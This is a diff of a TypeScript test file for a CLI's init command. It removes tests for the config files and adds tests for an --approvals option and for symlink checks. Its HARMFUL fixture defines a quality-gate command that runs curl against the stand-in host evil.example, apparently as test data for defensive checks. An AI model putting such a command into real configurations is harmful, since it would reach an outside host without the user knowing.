@@ -1,23 +1,19 @@
-import { existsSync, mkdirSync, symlinkSync } from 'node:fs';
+import { existsSync, mkdirSync, readdirSync, symlinkSync } from 'node:fs';
 import { basename, join } from 'node:path';
 import { expect, test } from 'vitest';
-import { readShippedConfig } from '../../adapters/disk/shipped-config.ts';
-import { ApprovalsFile } from '../../domain/judge/approval.ts';
+import { readShippedApproval } from '../../adapters/disk/shipped-config.ts';
 import { SHIPPED_APPROVALS } from '../../domain/judge/approval-type.ts';
-import { EscalationFile, LEVEL_ACTIONS } from '../../domain/plan/escalation-file.ts';
 import { HelixFile } from '../../domain/plan/helix-file.ts';
 import { PhasesFile } from '../../domain/plan/phases-file.ts';
-import { memoryProject } from '../../plan/memory-project.fixture.ts';
-import { loadEscalation } from '../../plan/read/load-escalation.ts';
 import { parseYaml } from '../../text/yaml/yaml.ts';
 import { makePlace } from '../helix.fixture.ts';
-import { configTexts, helixYaml, LANGUAGES } from './project-texts.ts';
+import { helixYaml, LANGUAGES } from './project-texts.ts';
 import { writeProject } from './write-project.ts';
 
 const HARMFUL =
   'phases:\n  - id: a\n    type: test\n    quality_gate: { type: custom, command: [curl, evil.example] }\n';
 
-const FILES = ['phases.yaml', 'helix.yaml', 'config/approvals.yaml', 'config/escalation.yaml', '.gitignore'];
+const FILES = ['phases.yaml', 'helix.yaml', '.gitignore'];
 
 test('init makes a project called like its directory, ready to be checked and run', async () => {
   const place = makePlace();
@@ -36,7 +32,7 @@ test('init makes a project called like its directory, ready to be checked and ru
   for (const name of ['phases', 'helix', 'approvals', 'escalation']) {
     expect(place.read(`.helix/schemas/${name}.schema.json`)).toBe((await place.helix(['schema', name])).out);
   }
-  expect(place.read('config/escalation.yaml')).toMatch(/^# yaml-language-server: [$]schema=[.][.]\/[.]helix\//);
+  expect(readdirSync(place.dir).sort()).toEqual(['.gitignore', '.helix', 'helix.yaml', 'phases.yaml']);
   const plan = await place.helix(['plan']);
   expect({ code: plan.code, err: plan.err }).toEqual({ code: 0, err: '' });
   expect(plan.out).not.toContain('config/');
@@ -110,12 +106,12 @@ test('a link that leaves the project is not written through', async () => {
   expect(existsSync(join(place.dir, 'elsewhere/target'))).toBe(false);
   expect(existsSync(join(place.dir, 'elsewhere/schemas'))).toBe(false);
   mkdirSync(join(place.dir, 'linked'));
-  symlinkSync('../elsewhere', join(place.dir, 'linked/config'));
-  expect(await place.helix(['init', 'linked'])).toMatchObject({
+  symlinkSync('../elsewhere', join(place.dir, 'linked/approvals'));
+  expect(await place.helix(['init', 'linked', '--approvals'])).toMatchObject({
     code: 2,
-    err: expect.stringContaining('config is a symbolic link'),
+    err: expect.stringContaining('approvals is a symbolic link'),
   });
-  expect(existsSync(join(place.dir, 'elsewhere/escalation.yaml'))).toBe(false);
+  expect(readdirSync(join(place.dir, 'elsewhere'))).toEqual([]);
 });
 
 test('a file in the way is named', async () => {
@@ -138,37 +134,21 @@ test.each(LANGUAGES)('helix.yaml in %s explains every key, and what it shows in 
   });
 });
 
-test.each(
-  LANGUAGES,
-)('the files in config in %s explain every key, and what they show in comments is right', (language) => {
-  const texts = configTexts(language);
-  const read = (path: string): unknown => {
-    const shown = texts[path]?.replaceAll(/^( *)# ?( *(?:- )?[a-z_]+:(?: .*)?)$/gm, '$1$2') ?? '';
-    const { value, findings } = parseYaml(shown, path);
-    expect(findings).toEqual([]);
-    return value;
-  };
-  const { defaults = {}, approvals = {} } = ApprovalsFile.parse(read('config/approvals.yaml'));
-  expect(Object.keys(approvals)).toEqual(SHIPPED_APPROVALS);
-  expect([...Object.keys(defaults), 'checks'].sort()).toEqual(
-    Object.keys(ApprovalsFile.shape.defaults.unwrap().shape).sort(),
-  );
-  const { escalation, error_patterns } = EscalationFile.parse(read('config/escalation.yaml'));
-  expect(Object.keys(escalation ?? {})).toEqual(['max_retries_per_level', 'attempt_timeout', 'levels']);
-  expect(escalation?.levels).toMatchObject({
-    stufe_1: { max_attempts: 3, actions: LEVEL_ACTIONS.stufe_1.slice(0, 5).map((type) => ({ type })) },
-    stufe_2: { wait_timeout_hours: 24, on_timeout: 'wait', actions: [{ type: 'notify', channels: ['team'] }] },
-  });
-  expect(error_patterns).toHaveLength(1);
-});
-
-test('what init writes into config changes nothing', async () => {
-  const project = memoryProject({});
-  const shipped = readShippedConfig('escalation.yaml').text;
-  const { own: _, ...usual } = await loadEscalation(project, shipped);
-  const { own, ...written } = await loadEscalation(memoryProject(configTexts('en')), shipped);
-  expect(own?.findings.sorted).toEqual([]);
-  expect(written).toEqual(usual);
+test('with --approvals it copies what judges are told, of the types that are named or of all', async () => {
+  const place = makePlace();
+  const { code, out } = await place.helix(['init', 'backend', '--approvals', 'code', 'adr']);
+  expect(code).toBe(0);
+  expect(out).toMatch(/^made +approvals\/code\/CLAUDE[.]md$/m);
+  expect(readdirSync(join(place.dir, 'backend/approvals')).sort()).toEqual(['adr', 'code']);
+  const shipped = readShippedApproval('code');
+  expect(place.read('backend/approvals/code/checks/tests.md')).toBe(shipped?.get('checks/tests.md'));
+  expect(existsSync(join(place.dir, 'backend/approvals/code/defects.yaml'))).toBe(false);
+  expect((await place.helix(['init', '--approvals'])).code).toBe(0);
+  expect(readdirSync(join(place.dir, 'approvals')).sort()).toEqual([...SHIPPED_APPROVALS].sort());
+  const wrong = await place.helix(['init', '.', '--approvals', 'cod']);
+  expect(wrong.code).toBe(2);
+  expect(wrong.err).toContain('did you mean "code"?');
+  expect((await place.helix(['init', 'a', 'b'])).code).toBe(2);
 });
 
 test('an unknown language is refused', async () => {
